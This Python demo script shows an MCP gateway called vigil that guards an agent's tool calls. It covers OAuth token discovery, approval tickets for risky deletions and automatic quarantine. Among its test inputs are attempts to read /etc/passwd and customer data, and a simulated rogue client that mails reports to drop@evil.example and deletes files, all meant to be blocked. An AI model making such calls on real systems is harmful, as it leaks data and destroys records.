"""The MCP gateway demo (``make demo``): a scripted agent (no LLM) calls tools through
``vigil mcp proxy`` in front of a real MCP server whose tools are guarded in process.

    python examples/mcp-agent/demo.py [--workdir .vigil/demo/mcp-agent]

It starts, each in its own process on free loopback ports, and stops at the end:

- ``vigil serve``: the OAuth authorization server the agent gets its token from (private_key_jwt,
  no shared secret) and the admin API a human approves with;
- ``tools_server.py``: the report tools (the SDK's MCPServer), each guarded by ``vigil.guard``;
- ``vigil mcp proxy``: the gateway, deciding every call before it is forwarded.

Then the agent finds the token endpoint from the gateway's 401 (RFC 9728 metadata), works as usual
(it learns its habit), asks to delete a report (stepped up: a ticket), a human approves, the retry
goes through; then the agent goes rogue from another client and is quarantined, which cuts its
first, still open session too.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import os
import secrets
import shutil
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import httpx
from joserfc import jwt
from joserfc.jwk import ECKey
from mcp import Client
from mcp.client.streamable_http import streamable_http_client
from mcp.shared._httpx_utils import create_mcp_http_client
from mcp.shared.exceptions import MCPError
from mcp_types import Implementation

HERE = Path(__file__).resolve().parent
AGENT = 'Agent::"report-agent"'
ADMIN_KEY = secrets.token_urlsafe(24)
BIN = Path(sys.executable).parent


def say(text: str = "") -> None:
    print(text, flush=True)


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def wait_http(url: str, proc: subprocess.Popen[bytes], what: str, timeout: float = 30) -> None:
    end = time.monotonic() + timeout
    while time.monotonic() < end:
        if proc.poll() is not None:
            raise RuntimeError(f"{what} exited with status {proc.returncode}")
        try:
            httpx.get(url, timeout=1)
            return
        except httpx.TransportError:
            time.sleep(0.1)
    raise RuntimeError(f"{what} did not start within {timeout:g} s")


@contextmanager
def processes() -> Iterator[list[subprocess.Popen[bytes]]]:
    """The demo's child processes, stopped (SIGTERM, then SIGKILL) whatever happens."""
    procs: list[subprocess.Popen[bytes]] = []
    try:
        yield procs
    finally:
        for p in procs:
            if p.poll() is None:
                p.terminate()
        for p in procs:
            try:
                p.wait(10)
            except subprocess.TimeoutExpired:
                p.kill()
                p.wait(5)


def vigil(*args: str) -> None:
    subprocess.run([str(BIN / "vigil"), *args], check=True, stdout=subprocess.DEVNULL)


def client_assertion(key: ECKey, token_endpoint: str) -> str:
    now = int(time.time())
    claims = {"iss": AGENT, "sub": AGENT, "aud": token_endpoint, "iat": now, "exp": now + 60,
              "jti": secrets.token_hex(16)}  # fmt: skip
    return jwt.encode({"alg": "ES256", "kid": key.kid}, claims, key, algorithms=["ES256"])


def discover_and_get_token(gateway: str, key: ECKey) -> str:
    """What a standard MCP client does: no token -> 401 -> the resource metadata -> the
    authorization server's metadata -> its token endpoint (here with private_key_jwt)."""
    r = httpx.post(gateway, json={"jsonrpc": "2.0", "id": 1, "method": "tools/list"})
    pointer = r.headers["www-authenticate"].split('resource_metadata="')[1].split('"')[0]
    say(f"  no token: HTTP {r.status_code}, the gateway points at {pointer}")
    resource = httpx.get(pointer).json()
    issuer = resource["authorization_servers"][0].rstrip("/")
    server = httpx.get(issuer + "/.well-known/oauth-authorization-server").json()
    endpoint = server["token_endpoint"]
    say(f"  its authorization server is {issuer}; token endpoint {endpoint}")
    form = {
        "grant_type": "client_credentials",
        "client_assertion_type": "urn:ietf:params:oauth:client-assertion-type:jwt-bearer",
        "client_assertion": client_assertion(key, endpoint),
        "audience": resource["resource"],
    }
    answer = httpx.post(endpoint, data=form).json()
    say(f"  the agent proves who it is with its own key and gets a token for the gateway "
        f"(valid {answer['expires_in']} s)")  # fmt: skip
    return str(answer["access_token"])


class Session:
    """One MCP session of the agent through the gateway (the SDK's client, a bearer token)."""

    def __init__(self, client: Client) -> None:
        self.c = client

    async def call(self, tool: str, args: dict[str, Any], quiet: bool = False) -> dict[str, Any] | None:
        """The denial's data (None when the call went through)."""
        shown = ", ".join(f"{k}={v!r}" for k, v in args.items())
        try:
            r = await self.c.call_tool(tool, args)
        except MCPError as e:
            data = e.data if isinstance(e.data, dict) else {}
            if not quiet:
                say(f"  DENIED  {tool}({shown}): {', '.join(data.get('reasons', [])) or e.message}")
            return data
        result = (r.structured_content or {}).get("result")
        text = ", ".join(result) if isinstance(result, list) else str(result)
        if r.is_error or result is None:
            text = r.content[0].text if r.content and hasattr(r.content[0], "text") else ""
        if not quiet:
            say(f"  {'ERROR ' if r.is_error else 'ok    '}  {tool}({shown}) -> {text}")
        return None


async def agent(gateway: str, token: str, admin: str) -> None:
    headers = {"Authorization": f"Bearer {token}"}
    info = Implementation(name="report-agent", version="1.0")
    async with (
        create_mcp_http_client(headers=headers) as http,
        Client(streamable_http_client(gateway, http_client=http), client_info=info) as c,
    ):
        s = Session(c)
        tools = sorted(t.name for t in (await c.list_tools()).tools)
        say(f"  it may call: {', '.join(tools)}")
        say()
        say("2. Routine work: the agent lists and reads reports (vigil learns its habit)")
        for i in range(110):
            if i % 3 == 0:
                await s.call("files.list_reports", {}, quiet=i > 0)
            else:
                await s.call("files.read_report", {"name": f"q{1 + i % 3}.txt"}, quiet=i > 1)
        say("  ... 110 calls, all allowed")
        await s.call("files.read_file", {"path": "/etc/passwd"})
        say("  (the gateway's policy forbids system files, whatever the agent's habit)")
        await s.call("files.read_file", {"path": "/srv/data/customers.csv"})
        say("  (the gateway let that one through; the tool server's own vigil.guard refused it)")
        say()
        say("3. Something new: the agent wants to delete a stale draft")
        denied = await s.call("files.delete_report", {"name": "q1-draft.txt"})
        assert denied is not None and "ticket" in denied, denied
        ticket = denied["ticket"]["id"]
        say(f"  it has never deleted anything: vigil asks a human first (ticket {ticket})")
        say(
            f"  the agent is not blocked; it goes on with its work. The ticket says: {denied['ticket']['approve']}"
        )
        await s.call("files.read_report", {"name": "q2.txt"})
        say()
        say("4. A human approves the ticket (admin API of vigil serve)")
        r = httpx.post(
            admin + "/admin/v1/approvals/approve",
            json={"ticket": ticket, "by": "priya.raman", "note": "stale draft, fine"},
            headers={"Authorization": f"Bearer {ADMIN_KEY}"},
        )
        r.raise_for_status()
        say(f"  ticket {ticket} is {r.json()['state']} by priya.raman")
        say("  the agent retries the same call (same tool, same arguments):")
        assert await s.call("files.delete_report", {"name": "q1-draft.txt"}) is None
        say()
        say("5. The agent goes rogue: its token is used from another client to mail reports out")
        rogue_info = Implementation(name="exfil-tool", version="0.1")
        async with Client(streamable_http_client(gateway, http_client=http), client_info=rogue_info) as r2:
            rogue = Session(r2)
            attempts = [
                ("files.send_report", {"name": "q3.txt", "to": "drop@evil.example"}),
                ("files.delete_report", {"name": "q2.txt"}),
                ("files.send_report", {"name": "q2.txt", "to": "drop@evil.example"}),
                ("files.delete_report", {"name": "q3.txt"}),
                ("files.send_report", {"name": "q1.txt", "to": "drop@evil.example"}),
                ("files.read_report", {"name": "q1.txt"}),
            ]
            for tool, args in attempts:
                data = await rogue.call(tool, args)
                if data and "quarantined" in data.get("reasons", []):
                    break
        say("  five high-risk calls within ten minutes: vigil quarantined the agent on its own")
        say()
        say("6. Its first session is still open: the quarantine cuts it too")
        data = await s.call("files.read_report", {"name": "q2.txt"})
        assert data is not None and data.get("reasons") == ["quarantined"], data
        tools = (await c.list_tools()).tools
        say(f"  and it now sees {len(tools)} tools")


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--workdir", default=".vigil/demo/mcp-agent")
    work = Path(ap.parse_args().workdir).resolve()
    shutil.rmtree(work, ignore_errors=True)
    ws = work / "workspace"
    tools_ws = work / "tools-workspace"
    shutil.copytree(HERE / "workspace", ws)
    shutil.copytree(HERE / "tools-workspace", tools_ws, ignore=shutil.ignore_patterns("*.jsonl*", ".vigil"))
    serve_port, gw_port, tools_port = free_port(), free_port(), free_port()
    issuer = f"http://127.0.0.1:{serve_port}"
    gateway = f"http://127.0.0.1:{gw_port}/mcp"
    toml = (ws / "vigil.toml").read_text()
    toml = toml.replace('"http://127.0.0.1:8181"', f'"{issuer}"').replace(
        '"http://127.0.0.1:8766/mcp"', f'"{gateway}"'
    )
    (ws / "vigil.toml").write_text(toml)
    started = time.monotonic()

    say("vigil MCP demo: an agent calls tools through the vigil gateway")
    say()
    say("0. Setup: the agent's identity is registered with its public key (vigil identity add)")
    key = ECKey.generate_key("P-256", auto_kid=True)  # the agent's private key stays with it
    (work / "agent.pub.jwk").write_text(json.dumps(key.as_dict(private=False)))
    vigil("identity", "add", "-w", str(ws), AGENT, "--owner", "ops@example.com",
          "--purpose", "writes the quarterly reports", "--public-key", str(work / "agent.pub.jwk"),
          "--by", "ops")  # fmt: skip
    env = {**os.environ, "VIGIL_API_KEYS": secrets.token_urlsafe(24), "VIGIL_ADMIN_KEYS": ADMIN_KEY}
    log = (work / "processes.log").open("wb")
    with processes() as procs:
        procs.append(subprocess.Popen(
            [str(BIN / "vigil"), "serve", "-w", str(ws), "--port", str(serve_port)],
            env=env, stdout=log, stderr=log,
        ))  # fmt: skip
        procs.append(subprocess.Popen(
            [sys.executable, str(HERE / "tools_server.py"), "http", str(tools_port), str(tools_ws)],
            stdout=log, stderr=log,
        ))  # fmt: skip
        wait_http(f"{issuer}/healthz", procs[0], "vigil serve")
        wait_http(f"http://127.0.0.1:{tools_port}/mcp", procs[1], "the tool server")
        procs.append(subprocess.Popen(
            [str(BIN / "vigil"), "mcp", "proxy", "-w", str(ws), "--port", str(gw_port),
             "--upstream", f"files=http://127.0.0.1:{tools_port}/mcp",
             "--approve-hint", f"POST {issuer}/admin/v1/approvals/approve {{\"ticket\": \"{{ticket}}\"}}"],
            stdout=log, stderr=log,
        ))  # fmt: skip
        wait_http(
            gateway.removesuffix("/mcp") + "/.well-known/oauth-protected-resource", procs[2], "the gateway"
        )
        say(
            f"  vigil serve (token service, admin API) {issuer}; tool server :{tools_port}; gateway {gateway}"
        )
        say()
        say("1. The agent connects to the gateway like any MCP client")
        token = discover_and_get_token(gateway, key)
        asyncio.run(agent(gateway, token, issuer))
    log.close()
    say()
    say(f"Every call above is in the audit log: {ws / 'audit.jsonl'}")
    say(f"done in {time.monotonic() - started:.1f} s; all processes stopped")


if __name__ == "__main__":
    main()
